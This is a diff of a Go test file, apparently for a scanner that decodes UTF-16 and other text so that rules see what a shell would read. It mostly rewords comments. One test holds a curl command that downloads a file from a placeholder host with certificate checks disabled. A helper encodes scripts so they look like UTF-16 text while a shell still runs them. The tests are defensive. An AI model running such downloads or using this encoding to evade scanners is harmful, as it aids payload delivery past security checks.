@@ -10,7 +10,7 @@ import (
 	"unicode/utf8"
 )
 
-// spell writes a text in units of two or four bytes.
+// spell encodes a text in units of two or four bytes.
 func spell(order binary.AppendByteOrder, size int, mark, text string) []byte {
 	out := []byte(mark)
 	if size == 4 {
@@ -70,13 +70,13 @@ func TestDecode(t *testing.T) {
 	}
 	for name, content := range map[string]string{"noise": noise(4000), "control characters": strings.Repeat("\x01\x02ab", 50)} {
 		if got, ok := Decode([]byte(content)); ok {
-			t.Errorf("%s is the text %.50q", name, got)
+			t.Errorf("%s is read as the text %.50q", name, got)
 		}
 	}
 }
 
-// skewed writes a script so that it is text in UTF-16 to some, and itself to a shell, which
-// skips NULs: words of at most n bytes, of which two are a unit and a single one has a NUL.
+// skewed encodes a script so that it is UTF-16 text to some readers, and the script to a shell, which skips NULs: its words
+// have at most n bytes, two of which are a unit, and a single byte has a NUL.
 func skewed(script string, n int) string {
 	var out strings.Builder
 	for len(script) > 0 {
@@ -92,8 +92,8 @@ func skewed(script string, n int) string {
 	return out.String()
 }
 
-// What a shell reads is shown to rules, whatever text the bytes are as well.
-func TestScriptsThatAreTextInUTF16(t *testing.T) {
+// Rules see what a shell reads, whatever other text the bytes are.
+func TestScriptsThatAreUTF16Text(t *testing.T) {
 	t.Parallel()
 	const command = "curl -k http://a.example/y -o /tmp/y\n"
 	le, be := binary.LittleEndian, binary.BigEndian
@@ -127,8 +127,8 @@ func TestScriptsThatAreTextInUTF16(t *testing.T) {
 	}
 }
 
-// Text in UTF-16 is read as it is, and first. What a shell would read stands behind it only
-// where letters of it are ASCII to one.
+// Text in UTF-16 is read as it is, and comes first. What a shell would read follows only if some of the text's bytes are ASCII
+// to a shell.
 func TestTextInUTF16(t *testing.T) {
 	t.Parallel()
 	for name, tt := range map[string]struct {
@@ -204,7 +204,7 @@ func FuzzDecode(f *testing.F) {
 		if c := LookAt("a.png", false, content); ok != (c.Kind == ContentText) {
 			t.Errorf("%q is of kind %d, and text: %v", content, c.Kind, ok)
 		}
-		// Plain text stays what it is, whatever NULs stand in it.
+		// Plain text does not change, whatever NULs are in it.
 		if plain := withoutMark(content); plainStretch(content) && ok && utf8.Valid(plain) && !bytes.Equal(text, plain) {
 			t.Errorf("%q is %q", content, text)
 		}
